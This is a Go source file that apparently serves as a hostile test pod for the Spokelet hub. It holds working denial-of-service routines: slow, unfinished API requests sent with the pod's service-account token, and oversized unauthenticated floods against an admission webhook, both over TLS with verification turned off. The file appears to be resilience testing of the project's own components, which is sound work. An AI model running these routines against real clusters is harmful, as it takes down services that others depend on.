// Copyright The Spokelet Authors.
// SPDX-License-Identifier: Apache-2.0

// Command neighbour is a neighbour of the hub in its own cluster that means it harm. It
// runs in a pod, where any pod reaches the hub's ports, at the lowest priority, and
// waits to be told to attack:
//
//	GET /bodies?hub=ADDRESS   asks for views, with bodies that are short of a byte
//	GET /reviews?hub=ADDRESS  asks the webhook for verdicts, without a credential
//
// Each is bounded in count and time, and answers with how it went.
package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

const (
	lasting = 6 * time.Second

	// questions of maxQuestion bytes: with four neighbours 212.
	questions   = 53
	maxQuestion = 3 << 20

	// reviews of maxReview bytes at a time: with four neighbours 16.
	reviews   = 4
	maxReview = 8 << 20
)

func main() {
	err := lowerPriority()
	if err == nil {
		err = serve()
	}
	fmt.Fprintln(os.Stderr, "neighbour:", err)
	os.Exit(1)
}

// maxNiceness is that of the lowest priority.
const maxNiceness = 19

// lowerPriority restarts the program at niceness 19, so that the processor is given to all
// others first: an attacker has a machine of its own, and what it spends there must not
// count as a cost of the hub's. It is a restart because the priority is that of a thread
// and of those that it starts.
func lowerPriority() error {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	// The kernel counts from 20 downwards.
	if now, err := syscall.Getpriority(syscall.PRIO_PROCESS, 0); err != nil || now <= 20-maxNiceness {
		return err
	}
	if err := syscall.Setpriority(syscall.PRIO_PROCESS, 0, maxNiceness); err != nil {
		return err
	}
	return syscall.Exec("/proc/self/exe", os.Args, os.Environ()) //nolint:gosec // it is this program
}

func serve() error {
	mux := http.NewServeMux()
	for name, attack := range map[string]func(context.Context, string) string{"bodies": bodies, "reviews": attackWebhook} {
		mux.HandleFunc("GET /"+name, func(w http.ResponseWriter, r *http.Request) {
			ctx, cancel := context.WithTimeout(r.Context(), lasting)
			defer cancel()
			_, _ = io.WriteString(w, attack(ctx, r.FormValue("hub"))) // who went away needs no answer
		})
	}
	server := &http.Server{Addr: ":8080", Handler: mux, ReadHeaderTimeout: lasting}
	return server.ListenAndServe()
}

// insecureTLS trusts whoever answers: an attacker does not care.
func insecureTLS() *tls.Config {
	return &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12} //nolint:gosec // an attacker has no trust to betray
}

// bodies begins questions and does not finish them.
func bodies(ctx context.Context, address string) string {
	token, err := os.ReadFile("/var/run/secrets/kubernetes.io/serviceaccount/token")
	if err != nil {
		return err.Error()
	}
	var sent, refused atomic.Int64
	var askers sync.WaitGroup
	for range questions {
		askers.Go(func() {
			n, answered := question(ctx, net.JoinHostPort(address, "6443"), string(token))
			sent.Add(n)
			if answered {
				refused.Add(1)
			}
		})
	}
	askers.Wait()
	return fmt.Sprintf("%d questions, %d bytes sent, %d answered", questions, sent.Load(), refused.Load())
}

// question sends all of a question but its last byte, and waits.
func question(ctx context.Context, address, token string) (sent int64, answered bool) {
	conn, err := (&tls.Dialer{Config: insecureTLS()}).DialContext(ctx, "tcp", address)
	if err != nil {
		return 0, false
	}
	defer func() { _ = conn.Close() }()
	end := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer end()
	head := fmt.Sprintf("POST /apis/live.spokelet.io/v1alpha1/namespaces/hostile/viewworks HTTP/1.1\r\nHost: hub\r\nAuthorization: Bearer %s\r\n"+
		"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n", token, maxQuestion)
	if _, err := io.WriteString(conn, head); err != nil {
		return 0, false
	}
	sent, _ = io.Copy(conn, io.LimitReader(blanks{}, maxQuestion-1)) // refused ones are cut
	n, _ := conn.Read(make([]byte, 1))
	return sent, n > 0
}

// blanks is white space without end.
type blanks struct{}

// Read implements io.Reader.
func (blanks) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

// attackWebhook asks for verdicts about a work of nothing but manifests.
func attackWebhook(ctx context.Context, address string) string {
	const head = `{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"u","resource":{"group":"work.open-cluster-management.io","version":"v1","resource":"manifestworks"},` +
		`"operation":"CREATE","namespace":"hostile","object":{"apiVersion":"work.open-cluster-management.io/v1","kind":"ManifestWork","spec":{"workload":{"manifests":[`
	const tail = `{}]}}}}}`
	body := head + strings.Repeat(`{},`, (maxReview-len(head)-len(tail))/3) + tail
	client := &http.Client{Transport: &http.Transport{TLSClientConfig: insecureTLS(), MaxConnsPerHost: reviews}}
	url := "https://" + net.JoinHostPort(address, "9443") + "/validate-work-open-cluster-management-io-v1-manifestwork"
	var asked, answered atomic.Int64
	var askers sync.WaitGroup
	for range reviews {
		askers.Go(func() {
			for ctx.Err() == nil {
				asked.Add(1)
				if postReview(ctx, client, url, body) {
					answered.Add(1)
				}
				time.Sleep(50 * time.Millisecond) // one that is refused asks again, as fast as people notice
			}
		})
	}
	askers.Wait()
	return fmt.Sprintf("%d reviews, %d judged", asked.Load(), answered.Load())
}

// postReview sends one AdmissionReview and says whether it was answered with 200.
func postReview(ctx context.Context, client *http.Client, url, body string) bool {
	request, err := http.NewRequestWithContext(ctx, http.MethodPost, url, strings.NewReader(body))
	if err != nil {
		return false
	}
	request.Header.Set("Content-Type", "application/json")
	response, err := client.Do(request)
	if err != nil {
		return false
	}
	defer func() { _ = response.Body.Close() }()
	_, _ = io.Copy(io.Discard, response.Body) // the verdict matters to nobody
	return response.StatusCode == http.StatusOK
}
